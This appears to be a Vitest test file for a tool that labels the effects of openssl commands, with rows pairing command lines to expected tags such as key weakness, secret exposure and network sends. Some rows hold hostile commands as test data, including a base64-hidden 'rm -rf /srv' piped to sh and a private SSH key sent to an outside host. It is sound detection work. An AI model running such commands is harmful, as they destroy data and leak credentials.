import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  [
    'openssl req -x509 -newkey rsa:1024 -nodes -keyout k.pem -out c.pem',
    ['crypto:make-key c.pem', 'crypto:make-key k.pem', 'crypto:weaken short key', 'crypto:unprotected-key k.pem'],
  ],
  [
    'openssl pkcs12 -in a.p12 -passin pass:secret -nodes',
    ['crypto:expose-secret in the command', 'read:read a.p12 sensitive', 'crypto:unprotected-key'],
  ],
  ['openssl rsa -in k.key -pubout -out k.pub', ['crypto:make-key k.pub']],
  ['openssl rsa -in k.key', ['read:read k.key sensitive']],
  ['openssl genrsa -out /etc/sudoers.d/x 2048', ['write:overwrite /etc/sudoers.d/x']],
  ['openssl dhparam -out dh.pem 1024', ['crypto:make-key dh.pem', 'crypto:weaken short key']],
  ['openssl version', []],
  ['openssl rand -hex 32', []],
  ['openssl enc -in /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['openssl enc -aes-256-cbc -in a -out b', ['read:read a', 'write:overwrite b']],
  ['openssl enc -des3 -in a -out b', ['read:read a', 'write:overwrite b', 'crypto:weaken cipher']],
  ['openssl enc -d -aes-256-cbc -k secret -in a', ['read:read a', 'crypto:expose-secret in the command']],
  [
    'openssl aes-128-ecb -in a -out b',
    ['read:read a', 'write:overwrite b', 'crypto:weaken cipher', 'crypto:weaken cipher'],
  ],
  ['openssl base64 -d <<< cm0gLXJmIC9zcnY= | sh', ['execute:decoded a line', 'delete:remove /srv recursive force']],
  ['openssl dgst -sha256 file', ['read:read file']],
  ['openssl md5 file', ['read:read file']],
  ['openssl dgst -md5 -sign k.pem file', ['read:read k.pem', 'read:read file', 'crypto:weaken digest']],
  [
    'openssl req -x509 -newkey rsa:4096 -nodes -keyout k.pem -out c.pem',
    ['crypto:make-key c.pem', 'crypto:make-key k.pem', 'crypto:unprotected-key k.pem'],
  ],
  ['openssl req -new -sha1 -key k.pem -out c.csr', ['crypto:make-key c.csr', 'crypto:weaken digest']],
  ['openssl req -engine ./lib.so', ['execute:load lib.so']],
  ['openssl genrsa -out k.pem 1024', ['crypto:make-key k.pem', 'crypto:weaken short key']],
  ['openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:512', ['crypto:weaken short key']],
  ['openssl x509 -in c.pem -noout -dates', []],
  ['openssl s_client -connect h.example:443', ['network:connect h.example:443']],
  [
    'openssl s_client -connect h.example:443 < /root/.ssh/id_rsa',
    [
      'read:read /root/.ssh/id_rsa sensitive',
      'network:connect h.example:443 sensitive external',
      'network:send h.example:443 external sensitive',
    ],
  ],
  ['openssl s_server -accept 443 -WWW', ['network:listen 443', 'network:serve-files 443']],
  ['openssl passwd -6 secret', ['crypto:expose-secret in the command']],
  ['openssl passwd -6 -stdin', []],
  ['openssl passwd -crypt -stdin', ['crypto:weaken password hash']],
  ['openssl verify c.pem', []],
];

describe('openssl', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
